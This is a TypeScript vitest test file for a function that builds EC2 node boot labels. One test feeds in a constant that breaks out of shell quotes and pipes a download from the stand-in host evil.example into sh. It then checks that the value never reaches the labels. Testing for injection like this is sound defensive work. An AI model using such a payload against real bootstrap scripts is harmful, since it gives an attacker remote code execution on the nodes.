import { describe, expect, it } from 'vitest';
import { listBootLabels } from '../../../shared/ec2/node-class/user-data/boot-facts.ts';
import { aNodeClaim } from '../../support/builders.ts';

/** Ends the quotes of the bootstrap script's argument. */
const INJECTED = "x'; curl evil.example | sh; '";

describe('boot labels', () => {
  it('contain requirements with a single value', () => {
    const requirements = [{ key: 'team', operator: 'In', values: ['search'] } as const];

    expect(listBootLabels(aNodeClaim({ requirements }), 'spot')).toMatchObject({ team: 'search' });
  });

  it('contain no value that could run as a script on the node', () => {
    const requirements = [{ key: 'team', operator: 'In', values: [INJECTED] } as const];
    const labels = listBootLabels(aNodeClaim({ requirements, labels: { also: INJECTED } }), 'spot');

    expect(Object.values(labels)).not.toContain(INJECTED);
  });
});
